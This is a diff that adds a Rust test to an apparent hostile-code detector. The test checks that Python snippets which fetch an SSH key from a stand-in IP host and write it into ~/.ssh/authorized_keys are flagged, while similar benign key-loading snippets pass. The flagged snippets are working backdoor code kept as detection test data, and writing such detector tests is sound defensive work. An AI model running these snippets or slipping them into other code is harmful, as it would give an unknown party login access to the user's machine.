@@ -184,3 +184,22 @@ fn a_shell_is_tied_to_a_socket() {
         ],
     );
 }
+
+#[test]
+fn keys_of_a_nameless_host_may_log_in() {
+    all_are(
+        Python,
+        Rule::FetchedKeys,
+        &[
+            "import os, urllib.request\nk = urllib.request.urlopen('http://203.0.113.9/k').read().decode()\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)",
+            "import pathlib, requests\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.write_text(requests.get('http://203.0.113.9/k').text)",
+        ],
+    );
+    all_are_honest(
+        Python,
+        &[
+            "import os, urllib.request\nk = urllib.request.urlopen('https://github.com/someone.keys').read().decode()\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)",
+            "import pathlib, sys\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.write_text(pathlib.Path(sys.argv[1]).read_text())",
+        ],
+    );
+}
